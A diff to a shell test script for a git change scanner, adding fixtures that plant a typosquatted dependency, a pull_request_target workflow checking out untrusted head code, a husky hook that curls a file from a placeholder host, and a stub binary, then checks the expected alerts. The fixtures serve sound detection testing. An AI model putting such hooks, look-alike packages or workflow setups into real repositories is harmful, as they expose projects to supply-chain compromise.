@@ -57,4 +57,19 @@ sarif() {
 	jq -e '[.runs[0].results[].ruleId] == ["change.tls-verification"]' "$work/sarif"
 }
 check 'notes are no alerts of a code host' sarif
+
+# What is depended on, and what runs by itself, as git gives it.
+mkdir -p .github/workflows .husky && printf '{"dependencies": {"lodash": "^4"}}' >package.json && git add . && git commit -qm four
+printf '{"dependencies": {"lodash": "^4", "lodahs": "^4", "chalk": "^5"}}' >package.json
+printf '%s\n' 'on: pull_request_target' 'jobs:' '  a:' '    steps:' '      - uses: actions/checkout@v4' '        with:' \
+	'          ref: ${{ github.event.pull_request.head.sha }}' >.github/workflows/a.yml
+echo 'curl -s https://h.example/x -o "$x"' >.husky/post-merge
+printf '\177ELF\2\1\1\0' >tool
+git add .
+check 'dependencies, workflows, hooks, programs' said 4 \
+	'.husky/post-merge:1=change.adds-hook .husky/post-merge:1=change.adds-network package.json:1=change.adds-dependency package.json:1=change.adds-dependency' \
+	'.github/workflows/a.yml:7=change.workflow-head .husky/post-merge:1=change.hook-network package.json:1=change.look-alike-dependency tool:1=change.program tool:null=scan.unknown' \
+	--staged --subject changes
+git commit -qm five
+check 'and none of it once it is there' said 0 '' '' --since HEAD --subject changes .husky .github package.json
 exit $failed
